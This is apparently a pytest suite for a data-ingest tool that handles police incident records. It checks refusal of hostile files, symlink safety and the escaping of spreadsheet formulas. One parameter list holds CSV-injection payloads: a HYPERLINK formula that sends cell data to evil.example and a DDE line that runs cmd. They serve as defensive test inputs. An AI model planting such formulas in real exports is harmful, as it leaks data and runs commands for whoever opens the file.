"""Malformed and hostile extracts: each refused naming its file, row and column; the table byte-identical.

The corpus is in ``tests/ingest_corpus.py``; every file is built under the test's own folder.
"""

from __future__ import annotations

import csv
import hashlib
import os
import stat
from pathlib import Path

import pandas as pd
import pytest

from data import storage
from data.ingest import IngestError, ingest, neutralise
from tests.ingest_corpus import CASES, Case, csv_text, good_rows, incident


def table_hashes(data_dir: Path, table: str = "incidents") -> dict[str, str]:
    """sha256 of each parquet file of the current version, and the folder it resolves to."""
    out = {"<resolved>": str((data_dir / table).resolve())}
    for path in storage.list_data_files(data_dir, table):
        out[path.name] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


@pytest.fixture
def loaded(tmp_path) -> tuple[Path, Path]:
    """incidents loaded from a good file (March 2022), and an empty folder for the hostile inputs."""
    data_dir = tmp_path / "data"
    good = tmp_path / "good.csv"
    good.write_text(csv_text([incident(i) for i in range(1, 11)]))
    ingest(data_dir, "incidents", [good])
    inputs = tmp_path / "in"
    inputs.mkdir()
    return data_dir, inputs


def test_the_corpus_is_large_enough():
    assert len(CASES) >= 30
    assert len({c.name for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_a_hostile_file_is_refused_and_the_table_is_byte_identical(loaded, case: Case):
    data_dir, inputs = loaded
    files = case.build(inputs)
    before = table_hashes(data_dir)
    version = storage.current_version(data_dir, "incidents")
    log_before = len(storage.read_ingest_log(data_dir))

    with pytest.raises(IngestError) as info:
        ingest(data_dir, "incidents", files, **case.options)

    assert table_hashes(data_dir) == before
    assert storage.current_version(data_dir, "incidents") == version
    errors = info.value.errors
    assert any(all(w in e for w in case.words) for e in errors), errors
    assert not any(a in e for a in case.absent for e in errors), errors
    log = storage.read_ingest_log(data_dir)
    assert len(log) == log_before + 1 and log[-1]["status"] == "refused"
    assert log[-1]["reasons"] == errors[:50]
    assert [v["version"] for v in storage.list_versions(data_dir, "incidents")] == [version]


def test_a_symlink_is_never_read(loaded):
    data_dir, inputs = loaded
    secret = inputs / "secret.csv"
    secret.write_text(csv_text(good_rows()))
    link = inputs / "incidents.csv"
    link.symlink_to(secret)
    with pytest.raises(IngestError, match="is a symbolic link"):
        ingest(data_dir, "incidents", [link])
    assert not (inputs / "incidents.rejected.csv").exists()


def test_an_encoding_named_reads_the_whole_file_in_it(loaded):
    data_dir, inputs = loaded
    records = good_rows()
    records[1]["lpa"] = "Ynys Môn"
    path = inputs / "cp1252.csv"
    path.write_bytes(csv_text(records).encode("cp1252"))
    with pytest.raises(IngestError, match="not valid UTF-8"):
        ingest(data_dir, "incidents", [path])
    result = ingest(data_dir, "incidents", [path], encoding="cp1252", replace_all=True)
    assert result.rows == 4
    frame = pd.concat(pd.read_parquet(p) for p in storage.list_data_files(data_dir, "incidents"))
    assert "Ynys Môn" in set(frame["lpa"])  # not "Ynys MÃ´n"


def test_a_bom_is_fine_and_utf8_is_the_default(loaded):
    data_dir, inputs = loaded
    records = good_rows()
    records[0]["lpa"] = "Ynys Môn"
    path = inputs / "bom.csv"
    path.write_bytes(b"\xef\xbb\xbf" + csv_text(records).encode("utf-8"))
    ingest(data_dir, "incidents", [path], replace_all=True)
    frame = pd.concat(pd.read_parquet(p) for p in storage.list_data_files(data_dir, "incidents"))
    assert "Ynys Môn" in set(frame["lpa"])


def test_a_named_date_format_reads_that_order_and_no_other(loaded):
    data_dir, inputs = loaded
    records = good_rows(2)
    records[0]["received_at"] = "01/10/2022 10:00"
    records[0]["arrived_at"] = "2022-10-01 10:20:00"  # ISO is always fine
    path = inputs / "uk.csv"
    path.write_text(csv_text(records))
    ingest(data_dir, "incidents", [path], date_format="dd/mm/yyyy", replace_all=True)
    frame = pd.concat(pd.read_parquet(p) for p in storage.list_data_files(data_dir, "incidents"))
    got = frame.set_index("incident_id")
    assert got.loc["INC-1", "received_at"] == pd.Timestamp("2022-10-01 10:00")  # 1 October, as named
    ingest(data_dir, "incidents", [path], date_format="mm/dd/yyyy", replace_all=True)
    frame = pd.concat(pd.read_parquet(p) for p in storage.list_data_files(data_dir, "incidents"))
    assert frame.set_index("incident_id").loc["INC-1", "received_at"] == pd.Timestamp("2022-01-10 10:00")
    with pytest.raises(IngestError, match="unknown --date-format 'yyyy-dd-mm'"):
        ingest(data_dir, "incidents", [path], date_format="yyyy-dd-mm")


def test_a_sheet_named_is_loaded(loaded):
    data_dir, inputs = loaded
    case = next(c for c in CASES if c.name == "several sheets")
    path = case.build(inputs)[0]
    result = ingest(data_dir, "incidents", [path], sheet="Notes", replace_all=True)
    assert result.rows == 4


def test_unknown_columns_may_be_left_out_when_asked(loaded):
    data_dir, inputs = loaded
    case = next(c for c in CASES if c.name == "unknown columns")
    path = case.build(inputs)[0]
    result = ingest(data_dir, "incidents", [path], ignore_extra_columns=True, replace_all=True)
    assert result.ignored_columns == {"extra.csv": ["notes", "officer_name"]}


def test_free_text_may_hold_tabs_and_line_breaks(tmp_path):
    row = {
        "episode_id": "EP-1",
        "child_id": "C-1",
        "force": "Dorset",
        "lpa": "West",
        "local_authority": "Dorset Council",
        "age": "14",
        "reported_at": "2022-03-01 22:00:00",
        "risk_level": "medium",
        "risk_assessment_text": "Seen at the station.\nNo contact with family.\tReviewed.",
        "risk_ratified_at": "",
        "first_deployed_at": "",
        "found_at": "",
        "prevention_interview": "true",
        "return_home_interview_at": "",
        "ppn_submitted": "false",
        "strategy_meeting_held": "false",
        "csc_referral": "true",
    }
    path = tmp_path / "episodes.csv"
    path.write_text(csv_text([row]))
    ingest(tmp_path / "data", "missing_episodes", [path])
    row["risk_assessment_text"] = "Seen\x00 at the station"
    path.write_text(csv_text([row]))
    with pytest.raises(IngestError) as info:
        ingest(tmp_path / "data", "missing_episodes", [path])
    assert info.value.errors[0].startswith(
        "episodes.csv row 1, column risk_assessment_text: 'Seen\\x00 at the station' contains the control"
    )


# --- the rejected-rows file cannot run anything in a spreadsheet ---------------------------------


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tx",
        "\rx",
    ],
)
def test_a_formula_in_the_rejected_rows_file_is_neutralised(loaded, value):
    data_dir, inputs = loaded
    records = good_rows()
    records[1]["lpa"] = value
    records[1]["grade"] = "9"  # the row is refused for its grade
    path = inputs / "calls.csv"
    path.write_text(csv_text(records, quote_all=True), newline="")
    with pytest.raises(IngestError):
        ingest(data_dir, "incidents", [path])
    out = inputs / "calls.rejected.csv"
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 1
    assert rows[0]["lpa"] == "'" + value
    for cells in rows:
        for cell in cells.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_control_characters_are_visible_in_the_rejected_rows_file(loaded):
    data_dir, inputs = loaded
    records = good_rows()
    records[2]["force"] = "Dor\x00set"
    path = inputs / "nul.csv"
    path.write_text(csv_text(records))
    with pytest.raises(IngestError):
        ingest(data_dir, "incidents", [path])
    text = (inputs / "nul.rejected.csv").read_text(encoding="utf-8-sig")
    assert "\x00" not in text and "Dor\\x00set" in text


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("Dorset") == "Dorset"
    assert neutralise(-1) == -1
    assert neutralise("a\u202eb") == "a\\u202eb"


def test_the_rejected_rows_file_is_private_and_never_written_through_a_link(loaded):
    data_dir, inputs = loaded
    records = good_rows()
    records[0]["grade"] = "9"
    path = inputs / "bad.csv"
    path.write_text(csv_text(records))
    with pytest.raises(IngestError):
        ingest(data_dir, "incidents", [path])
    out = inputs / "bad.rejected.csv"
    assert stat.S_IMODE(out.stat().st_mode) == 0o640
    out.unlink()
    target = inputs / "precious.txt"
    target.write_text("keep me")
    out.symlink_to(target)
    with pytest.raises(IngestError) as info:
        ingest(data_dir, "incidents", [path])
    assert target.read_text() == "keep me"
    assert any(e.startswith(f"could not write rejected rows to {out}") for e in info.value.errors)
    assert os.path.islink(out)


def test_the_cli_names_the_new_options(tmp_path):
    import subprocess
    import sys

    done = subprocess.run(
        [sys.executable, "-m", "data.ingest", "--help"],
        cwd=Path(__file__).resolve().parents[1],
        capture_output=True,
        text=True,
        timeout=60,
    )
    for flag in (
        "--encoding",
        "--date-format",
        "--sheet",
        "--ignore-extra-columns",
        "--replace-all",
        "--dry-run",
    ):
        assert flag in done.stdout
